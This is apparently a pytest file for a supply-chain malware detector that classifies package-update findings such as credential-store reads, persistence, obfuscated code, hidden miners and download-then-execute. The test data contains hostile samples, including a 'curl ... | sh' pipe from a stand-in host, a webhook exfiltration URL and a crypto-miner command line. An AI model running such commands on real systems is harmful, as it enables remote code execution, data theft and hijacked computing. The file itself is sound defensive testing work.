"""Which variant a change is: by where the code runs, what the line did before, and first contact."""

from types import ModuleType

import pytest
from msgspec.structs import replace

from lazaretto.core.facts import Fact, Flow, Kind, Moment, Reach, Span
from lazaretto.core.manifest import Hook, HookKind
from lazaretto.core.model import Dependency, DependencyGroup, DependencySource, Provenance
from lazaretto.core.names import ProjectName
from lazaretto.core.tree import Oddity
from lazaretto.core.update import ArtifactView, Update
from lazaretto.detectors import (
    archive_oddity,
    binary_added,
    browser_hook_added,
    commands_served,
    decoded_code_executed,
    dependency_not_from_registry,
    dependency_unused,
    download_flows_to_execution,
    environment_keyed,
    exfil_literal_added,
    hidden_argument_added,
    hidden_text_added,
    implicit_hook_added,
    miner_started,
    module_hook_added,
    obfuscation_added,
    persistence_added,
    provenance_changed,
    self_deletion,
    stores_read,
    wallet_touched,
)
from tests.detectors.updates import edge, fact, release, update, view

FILE = "lib/index.js"
NOTHING = view({FILE: "old"})
WEBHOOK = "https://discord.com.invalid/api/webhooks/1"
PIPE = "curl https://drop.invalid/x | sh"
CALL = Moment.CALL
LOGINS = fact(Kind.FS_READ, "%LOCALAPPDATA%\\x\\Login Data")


def one(*facts: Fact, reach: Reach = Reach.IMPORT, path: str = FILE, flow: str | None = None) -> ArtifactView:
    """Return an artifact of one file; ``flow`` leads from the first fact to the second."""
    flows = {path: (Flow(0, 1, flow),)} if flow else {}
    return view({path: "new"}, {path: facts}, {path: reach}, flows=flows)


def variants(detector: ModuleType, before: ArtifactView | None, after: ArtifactView, **more: object) -> list[str]:
    """Return the variants that fire, in their order."""
    return [finding.variant for finding in detector.detect(update(before, after, **more))]  # type: ignore[arg-type]


def known(*facts: Fact, reach: Reach = Reach.UNREACHED) -> ArtifactView:
    """Return an earlier release of one file."""
    return view({FILE: "old"}, {FILE: facts}, {FILE: reach})


HOOK = fact(Kind.BROWSER_HOOK, "fetch")
WALLET = fact(Kind.WALLET_TOUCH, "ethereum")
PERSIST = fact(Kind.PERSIST, "~/.bashrc")
MODULE = fact(Kind.MODULE_HOOK, "Module.prototype.require")
EVAL = fact(Kind.CODE_EVAL, "1", via="base64")
ENV, DECRYPT = fact(Kind.ENV_READ, "npm_package_description"), fact(Kind.DECRYPT, None, 2)
CODE = fact(Kind.OBFUSCATED, "string-array")
NET, SPAWN = fact(Kind.NET_CONNECT, "https://drop.invalid/x"), fact(Kind.PROCESS_SPAWN, None, 2)
DOUBTFUL = fact(Kind.NET_CONNECT, "https://198.51.100.7/x", via="base64")
NAME = fact(Kind.NET_CONNECT, "drop.invalid", via="hex")
LOADS = fact(Kind.IMPORT, "child_process", via="hex")
HIDDEN = fact(Kind.HIDDEN_TEXT, "far-right")

TABLE = [
    (browser_hook_added, NOTHING, one(HOOK), ["autorun"]),
    (browser_hook_added, NOTHING, one(fact(Kind.BROWSER_HOOK, "fetch", moment=CALL)), ["call"]),
    (browser_hook_added, known(fact(Kind.BROWSER_HOOK, "XMLHttpRequest"), reach=Reach.IMPORT), one(HOOK), []),
    (browser_hook_added, None, one(HOOK), []),
    (browser_hook_added, None, one(HOOK, WALLET), ["first-contact"]),
    (wallet_touched, NOTHING, one(WALLET), ["autorun"]),
    (wallet_touched, known(fact(Kind.WALLET_TOUCH, "solana"), reach=Reach.IMPORT), one(WALLET), []),
    (wallet_touched, None, one(WALLET, NET, flow="data"), ["first-contact"]),
    (wallet_touched, None, one(WALLET, NET, flow="scope"), []),
    (persistence_added, NOTHING, one(PERSIST), ["autorun"]),
    (persistence_added, NOTHING, one(PERSIST, reach=Reach.CALL), ["call"]),
    (persistence_added, NOTHING, one(PERSIST, path="README.md"), []),
    (persistence_added, None, one(PERSIST), ["first-contact"]),
    (persistence_added, None, one(PERSIST, reach=Reach.CALL), []),
    (persistence_added, None, one(fact(Kind.PERSIST, "/home/*/.ssh/authorized_keys")), ["first-contact-login"]),
    (stores_read, NOTHING, one(LOGINS), ["autorun"]),
    (stores_read, NOTHING, one(LOGINS, reach=Reach.CALL), []),
    (stores_read, NOTHING, one(LOGINS, path="README.md"), []),
    (stores_read, NOTHING, one(fact(Kind.WALLET_TOUCH, "~/.bitcoin/wallet.dat")), []),
    (stores_read, known(LOGINS, reach=Reach.IMPORT), one(LOGINS, LOGINS), []),
    (stores_read, None, one(LOGINS), ["first-contact"]),
    (stores_read, None, one(fact(Kind.WALLET_TOUCH, "~/.bitcoin/wallet.dat")), ["first-contact"]),
    (stores_read, None, one(fact(Kind.WALLET_TOUCH, "ethereum")), []),
    (stores_read, None, one(fact(Kind.FS_READ, "x/Login Database")), []),
    (stores_read, None, one(fact(Kind.FS_READ, None)), []),
    (module_hook_added, NOTHING, one(MODULE), ["autorun"]),
    (module_hook_added, known(fact(Kind.MODULE_HOOK, "fs.open"), reach=Reach.IMPORT), one(MODULE), []),
    (module_hook_added, None, one(MODULE), []),
    (decoded_code_executed, None, one(EVAL), ["first-contact"]),
    (decoded_code_executed, None, one(EVAL, reach=Reach.CALL), []),
    (decoded_code_executed, NOTHING, one(fact(Kind.DECODE), SPAWN, flow="data"), ["autorun"]),
    (decoded_code_executed, NOTHING, one(fact(Kind.DECODE), SPAWN, flow="scope"), []),
    (environment_keyed, NOTHING, one(ENV, DECRYPT), ["decrypted"]),
    (environment_keyed, NOTHING, one(fact(Kind.ENV_READ, "APP_MODE"), DECRYPT), []),
    (environment_keyed, NOTHING, one(fact(Kind.ENV_READ, "APP_MODE"), DECRYPT, flow="data"), ["decrypted"]),
    (environment_keyed, NOTHING, one(fact(Kind.ENV_READ, "APP_SECRET"), DECRYPT, flow="data"), []),
    (obfuscation_added, NOTHING, one(CODE), ["autorun"]),
    (obfuscation_added, NOTHING, one(CODE, reach=Reach.CALL), ["load"]),
    (obfuscation_added, NOTHING, one(fact(Kind.OBFUSCATED, "string-array", moment=CALL)), ["call"]),
    (obfuscation_added, NOTHING, one(CODE, reach=Reach.UNREACHED), ["unreached"]),
    (obfuscation_added, NOTHING, one(fact(Kind.OBFUSCATED, "long-encoded")), ["encoded-data"]),
    (obfuscation_added, None, one(fact(Kind.OBFUSCATED, "long-encoded")), []),
    (obfuscation_added, None, one(CODE, reach=Reach.INSTALL), ["first-contact-install"]),
    (obfuscation_added, known(CODE, reach=Reach.IMPORT), one(CODE), []),
    (obfuscation_added, known(CODE, reach=Reach.IMPORT), one(CODE, path="lib/other.js"), ["another-file"]),
    (download_flows_to_execution, NOTHING, one(NET, SPAWN, flow="data"), ["autorun-data"]),
    (download_flows_to_execution, NOTHING, one(NET, SPAWN, flow="scope"), ["autorun-scope"]),
    (download_flows_to_execution, NOTHING, one(NET, SPAWN, flow="data", reach=Reach.CALL), ["call-data"]),
    (download_flows_to_execution, NOTHING, one(NET, SPAWN, flow="scope", reach=Reach.CALL), []),
    (download_flows_to_execution, NOTHING, one(DOUBTFUL, SPAWN, flow="data", reach=Reach.CALL), ["call-suspicious"]),
    (
        download_flows_to_execution,
        known(fact(Kind.NET_CONNECT, "https://drop.invalid/y"), SPAWN, reach=Reach.IMPORT),
        one(NET, SPAWN, flow="scope", reach=Reach.CALL),
        [],
    ),
    (
        download_flows_to_execution,
        one(fact(Kind.NET_CONNECT, "https://drop.invalid/y"), SPAWN, flow="data"),
        one(NET, SPAWN, flow="data"),
        [],
    ),
    (download_flows_to_execution, None, one(NET, SPAWN, flow="data"), ["first-contact"]),
    (download_flows_to_execution, None, one(DOUBTFUL, SPAWN, flow="data"), ["first-contact-suspicious"]),
    (download_flows_to_execution, None, one(NET, SPAWN, flow="data", reach=Reach.CALL), []),
    (download_flows_to_execution, NOTHING, one(fact(Kind.PROCESS_SPAWN, PIPE)), ["autorun-data"]),
    (download_flows_to_execution, NOTHING, one(fact(Kind.PROCESS_SPAWN, PIPE), reach=Reach.CALL), ["call-data"]),
    (download_flows_to_execution, None, one(fact(Kind.PROCESS_SPAWN, PIPE)), ["first-contact-straight"]),
    (download_flows_to_execution, None, one(fact(Kind.LITERAL_COMMAND, PIPE)), ["first-contact"]),
    (download_flows_to_execution, known(fact(Kind.PROCESS_SPAWN, PIPE), reach=Reach.IMPORT),
     one(fact(Kind.PROCESS_SPAWN, PIPE.replace("x", "y"))), []),
    (hidden_argument_added, NOTHING, one(LOADS), ["import"]),
    (hidden_argument_added, NOTHING, one(NAME), ["autorun"]),
    (hidden_argument_added, NOTHING, one(NAME, reach=Reach.CALL), ["load"]),
    (hidden_argument_added, None, one(LOADS), ["first-contact-import"]),
    (hidden_argument_added, None, one(NAME), ["first-contact"]),
    (hidden_argument_added, None, one(NAME, reach=Reach.CALL), []),
    (hidden_text_added, NOTHING, one(HIDDEN), ["far-right"]),
    (hidden_text_added, NOTHING, one(HIDDEN, path="AGENTS.md"), ["in-agent-config"]),
    (hidden_text_added, NOTHING, one(HIDDEN, path="CHANGELOG.md"), []),
    (hidden_text_added, NOTHING, one(HIDDEN, reach=Reach.UNREACHED), []),
    (hidden_text_added, known(HIDDEN), replace(known(HIDDEN, reach=Reach.IMPORT)), []),
    (hidden_text_added, None, one(HIDDEN), ["first-contact"]),
    (hidden_text_added, None, one(fact(Kind.HIDDEN_TEXT, "bidi")), []),
    (miner_started, NOTHING, one(fact(Kind.PROCESS_SPAWN, "xmr -o pool.invalid:3333 -u wallet")), ["command"]),
    (miner_started, None, one(fact(Kind.PROCESS_SPAWN, "xmr -o pool.invalid:3333 -u wallet")), ["first-contact"]),
    (miner_started, known(fact(Kind.PROCESS_SPAWN, "xmr -o pool.invalid:3333 -u wallet"), reach=Reach.IMPORT),
     one(fact(Kind.PROCESS_SPAWN, "xmr -o other.invalid:3333 -u wallet")), []),
    (miner_started, NOTHING, one(fact(Kind.PROCESS_SPAWN, "gcc -o a.out -u main")), []),
    (self_deletion, NOTHING, one(fact(Kind.FS_SELF_DELETE, None)), ["autorun"]),
    (self_deletion, NOTHING, one(fact(Kind.FS_SELF_DELETE, None, moment=CALL)), ["call"]),
    (self_deletion, None, one(fact(Kind.FS_SELF_DELETE, None, moment=CALL)), []),
    (binary_added, NOTHING, one(fact(Kind.BINARY, "elf")), ["loaded"]),
    (binary_added, NOTHING, one(fact(Kind.BINARY, "elf"), reach=Reach.UNREACHED), ["native"]),
    (binary_added, NOTHING, one(fact(Kind.BINARY, "pyc")), ["bytecode"]),
    (binary_added, NOTHING, one(fact(Kind.BINARY, "archive:zip")), ["archive"]),
    (binary_added, NOTHING, one(fact(Kind.BINARY, "font")), []),
    (binary_added, NOTHING, one(fact(Kind.BINARY, "elf named .png")), ["loaded"]),
    (binary_added, NOTHING, one(fact(Kind.BINARY, "elf named .png"), reach=Reach.UNREACHED), ["disguised"]),
    (binary_added, known(fact(Kind.BINARY, "elf named .png")), one(fact(Kind.BINARY, "elf named .png")), []),
    (binary_added, known(fact(Kind.BINARY, "elf")), one(fact(Kind.BINARY, "macho")), []),
    (binary_added, None, one(fact(Kind.BINARY, "elf named .png")), ["first-contact"]),
    (binary_added, None, one(fact(Kind.BINARY, "elf")), []),
]  # fmt: skip
"""Detector, what the line did, what the release does, and what is said of it."""


@pytest.mark.parametrize(("detector", "before", "after", "expected"), TABLE)
def test_variant(detector: ModuleType, before: ArtifactView | None, after: ArtifactView, expected: list[str]) -> None:
    """Where the code runs, what was usual, and whether there was a release before decide what is said."""
    assert variants(detector, before, after) == expected


def test_a_webhook_in_the_code() -> None:
    """Told where the file runs by itself; at first contact only at installation, and only of places that take data."""
    hook = fact(Kind.LITERAL_URL, WEBHOOK)
    sort = exfil_literal_added._sort(one(hook).placed[0])

    assert sort is not None
    assert variants(exfil_literal_added, NOTHING, one(hook)) == [exfil_literal_added._VARIANT[sort]]
    assert variants(exfil_literal_added, known(hook), one(hook)) == []
    assert variants(exfil_literal_added, NOTHING, one(hook, reach=Reach.CALL)) == []
    assert variants(exfil_literal_added, None, one(hook)) == []
    assert variants(exfil_literal_added, None, one(hook, reach=Reach.INSTALL)) == ["first-contact"]


def _hooked(kind: HookKind, text: str, command: str = "", facts: tuple[Fact, ...] = ()) -> ArtifactView:
    path = {HookKind.IMPLICIT: "binding.gyp", HookKind.BUILD: "setup.py"}.get(kind, "pad.pth")
    hook = Hook(kind, path, command, path, Span(1, 0, 0, 0))
    return view({path: text}, {path: facts}, {path: Reach.INSTALL}, hooks=(hook,))


def test_hooks_without_a_script() -> None:
    """Startup lines, gyp files that run a command, and build scripts; a line that has a build goes on building."""
    gyp, command = _hooked(HookKind.IMPLICIT, "{'sources': []}"), _hooked(HookKind.IMPLICIT, "<!(id)", "x")
    build = _hooked(HookKind.BUILD, "setup()")

    assert variants(implicit_hook_added, NOTHING, _hooked(HookKind.STARTUP, "import pad")) == ["startup"]
    assert variants(implicit_hook_added, NOTHING, gyp) == ["gyp"]
    assert variants(implicit_hook_added, NOTHING, command) == ["gyp-command"]
    assert variants(implicit_hook_added, gyp, command) == []
    assert variants(implicit_hook_added, NOTHING, build) == ["build"]
    assert variants(implicit_hook_added, build, _hooked(HookKind.BUILD, "setup(1)", "x")) == []
    assert variants(implicit_hook_added, None, build) == []
    assert variants(implicit_hook_added, None, _hooked(HookKind.BUILD, "setup()", facts=(EVAL,))) == ["first-contact"]


def test_sources_other_than_the_registry() -> None:
    """A new repository is told; another commit of a known one, a development tool and a harmless alias are not."""

    def needs(*dependencies: Dependency) -> ArtifactView:
        return view({FILE: "x"}, dependencies=dependencies)

    pad = ProjectName("pad")
    old = Dependency(pad, "git+https://git.invalid/pad#v1", source=DependencySource.GIT)
    moved = replace(old, requirement="git+https://git.invalid/pad#v2")
    dev = replace(old, group=DependencyGroup.DEV)
    alias = Dependency(pad, "npm:other@1", source=DependencySource.ALIAS, target=ProjectName("other"))
    detector = dependency_not_from_registry

    assert variants(detector, needs(), needs(old)) == ["git"]
    assert variants(detector, needs(old), needs(moved)) == []
    assert variants(detector, needs(), needs(dev)) == []
    assert variants(detector, needs(), needs(alias)) == []
    assert variants(detector, needs(), needs(alias), names=["pad"]) == ["alias"]
    assert variants(detector, None, needs(old)) == []


def test_dependencies_that_no_code_names() -> None:
    """Types and platform parts are never imported; an optional part of another house ought to be."""

    def asked(name: str, group: DependencyGroup) -> list[str]:
        new = edge(name, release("1.0.0"))
        new = replace(new, dependency=replace(new.dependency, group=group))
        return variants(dependency_unused, NOTHING, one(), edges=(new,))

    assert asked("pad", DependencyGroup.RUNTIME) == ["unused"]
    assert asked("@types/pad", DependencyGroup.RUNTIME) == []
    assert asked("pad", DependencyGroup.PEER) == []
    assert asked("pad", DependencyGroup.OPTIONAL) == ["unused"]
    assert asked("example-package-linux", DependencyGroup.OPTIONAL) == []


def test_ways_of_packing() -> None:
    """What unpackers disagree about is told even at first contact; a confusing name only as a change."""
    odd = view({FILE: "x"}, oddities=(Oddity("duplicate", FILE, "twice"),))
    names = view({"a.js": "1", "A.js": "2", " b.js": "3"})

    assert variants(archive_oddity, view({FILE: "x"}), odd) == ["ambiguous"]
    assert variants(archive_oddity, odd, odd) == []
    assert variants(archive_oddity, None, odd) == ["first-contact"]
    assert variants(archive_oddity, NOTHING, names) == ["odd-name"]
    assert variants(archive_oddity, None, names) == []


def test_the_branch_of_a_provenance() -> None:
    """A release from a branch, where all came from tags, is told; an attestation without a ref says nothing."""

    def built(version: str, ref: str | None) -> object:
        return release(version, provenance=Provenance("https://forge.invalid/pad", ref, "release.yml", "push"))

    def refs(*known: str | None, now: str | None) -> list[str]:
        line = [built(f"0.{number}.0", ref) for number, ref in enumerate(known)]
        last = built("1.0.1", now)
        asked: Update = update(NOTHING, NOTHING, releases=(*line, last), after=last)  # type: ignore[arg-type]
        return [finding.variant for finding in provenance_changed.detect(asked)]

    tags = [f"refs/tags/v{number}" for number in range(5)]
    assert refs(*tags, now="refs/heads/fix") == ["ref"]
    assert refs(*tags, now="refs/tags/v9") == []
    assert refs(*tags, now=None) == []
    assert refs(*(None for _ in tags), now="refs/heads/fix") == []


def test_a_server_that_was_there_is_no_news() -> None:
    """Nor is one of the tests, or one that executes what the file itself says."""
    server, order = fact(Kind.NET_LISTEN, "8124"), fact(Kind.PROCESS_SPAWN, None)
    serving = one(server, order)

    assert variants(commands_served, NOTHING, serving) == ["autorun"]
    assert variants(commands_served, None, serving) == ["first-contact"]
    assert variants(commands_served, serving, serving) == []
    assert variants(commands_served, NOTHING, one(server, fact(Kind.PROCESS_SPAWN, "git status"))) == []
    assert variants(commands_served, NOTHING, one(server, order, reach=Reach.CALL)) == []
    assert variants(commands_served, NOTHING, one(server, order, path="tests/a.js")) == []


MINER = fact(Kind.NET_CONNECT, "stratum+tcp://pool.invalid:3333")


@pytest.mark.parametrize(
    ("miner", "command", "expected"),
    [
        ((fact(Kind.BINARY, "elf"), MINER), "chmod a+x ./bin/gcc && ./bin/gcc", "first-contact-carried"),
        ((fact(Kind.BINARY, "elf"), MINER), "./bin/other", "first-contact"),
        ((MINER,), "./bin/gcc", "first-contact"),
    ],
)
def test_a_miner_that_a_release_carries(miner: tuple[Fact, ...], command: str, expected: str) -> None:
    """A program with a miner's words in it weighs more where the release starts it, whatever it is called."""
    started = fact(Kind.PROCESS_SPAWN, command)
    after = view({FILE: "new", "bin/gcc": "x"}, {FILE: (started,), "bin/gcc": miner}, {FILE: Reach.CALL})

    assert variants(miner_started, None, after) == [expected]
